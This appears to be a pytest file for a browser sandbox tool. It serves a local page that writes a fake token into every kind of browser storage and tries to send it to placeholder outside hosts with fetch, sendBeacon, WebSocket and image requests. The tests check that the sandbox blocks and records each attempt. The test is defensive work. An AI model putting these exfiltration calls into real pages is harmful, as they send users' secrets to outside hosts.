"""A page that puts a token everywhere: the tab finds it everywhere, and nothing gets out."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from ohifbuild.console import SilentReporter
from ohifbuild.verify.border import Border, border
from ohifbuild.verify.browser import find_browser, started
from ohifbuild.verify.session import Tab, tab, window

TOKEN = "s3cret-token-9f2c"
PAGE = f"""<!doctype html><meta charset="utf-8"><title>leaks</title><p data-x="{TOKEN}">page</p><script>
const token = '{TOKEN}';
localStorage.setItem('a', token);
sessionStorage.setItem('b', token);
document.cookie = 'c=' + token;
window.name = token;
history.pushState({{ token }}, '', '/page?t=' + token);
console.warn('here it is: ' + token);
fetch('/own', {{ headers: {{ token }} }});
fetch('http://fetch.example/?' + token).catch(() => {{}});
navigator.sendBeacon('https://beacon.example/', token);
new WebSocket('wss://socket.example/');
new Image().src = 'http://10.9.8.7/' + token;
new Worker('/worker.js');
(async () => {{
  const opened = indexedDB.open('d', 1);
  opened.onupgradeneeded = () => opened.result.createObjectStore('s').put({{ token }}, 1);
  await new Promise(done => (opened.onsuccess = done));
  await (await caches.open('e')).put('/cached?' + token, new Response('x'));
  document.title = 'done';
  setTimeout(() => {{ throw new Error('uncaught: ' + token) }});
}})();
</script>"""
WORKER = (
    f"fetch('/from-worker', {{ headers: {{ token: '{TOKEN}' }} }}); fetch('http://worker.example/').catch(() => {{}});"
)


class Leaky(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        worker = self.path == "/worker.js"
        body = (WORKER if worker else PAGE if self.path == "/" else "{}").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if worker else "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def visited() -> Iterator[tuple[Tab, Border]]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Leaky)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    origin, reporter = f"http://127.0.0.1:{server.server_port}", SilentReporter()
    with (
        border() as edge,
        started(find_browser(reporter), reporter) as browser,
        window(browser, origin, edge) as context,
        tab(context, origin) as page,
    ):
        page.go(origin + "/")
        assert page.until(lambda: page.page.title() == "done" and page.errors)
        assert page.until(lambda: any("worker.example" in attempt for attempt in edge.attempts()))
        page.quiet()
        yield page, edge
    server.shutdown()
    thread.join()
    server.server_close()


def test_reads_every_place_where_a_page_can_keep_a_token(visited: tuple[Tab, Border]) -> None:
    state = visited[0].state()
    places = {
        "url": state.url,
        "history": "\n".join(state.history),
        "history state": state.history_state,
        "localStorage": state.local["a"],
        "sessionStorage": state.session["b"],
        "cookies": "\n".join(state.cookies),
        "IndexedDB": "\n".join(state.databases),
        "caches": "\n".join(state.caches),
        "window.name": state.window_name,
        "document": state.html,
        "console": "\n".join(visited[0].console),
        "errors": "\n".join(visited[0].errors),
    }
    assert [place for place, text in places.items() if TOKEN not in text] == []


def test_sees_the_headers_of_page_and_worker(visited: tuple[Tab, Border]) -> None:
    carrying = {request.url.rpartition("/")[2] for request in visited[0].sent() if ("token", TOKEN) in request.headers}
    assert carrying == {"own", "from-worker"}


def test_nothing_leaves_and_every_attempt_is_noted(visited: tuple[Tab, Border]) -> None:
    attempts = "\n".join(visited[1].attempts())
    for target in ("fetch.example", "beacon.example:443", "socket.example:443", "10.9.8.7", "worker.example"):
        assert target in attempts
